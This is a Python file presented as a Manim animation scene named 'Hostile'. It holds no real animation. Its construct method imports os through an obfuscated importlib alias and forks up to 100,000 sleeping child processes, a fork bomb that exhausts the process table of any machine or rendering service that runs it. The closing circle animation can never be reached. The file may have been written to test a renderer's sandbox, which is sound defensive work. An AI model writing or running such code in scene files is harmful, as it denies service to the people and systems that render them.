from manim import *
from manim.utils.module_ops import importlib as _il
G = _il.import_module
class Hostile(Scene):
    def construct(self):
        proc = G("os")
        count = 0
        try:
            for _ in range(100000):
                if proc.fork() == 0:
                    G("time").sleep(120)
                    proc._exit(0)
                count += 1
        except OSError as exc:
            raise RuntimeError("forks stopped after %d: %s" % (count, exc))
        raise RuntimeError("forked %d processes" % count)
        self.play(Create(Circle()), run_time=0.1)
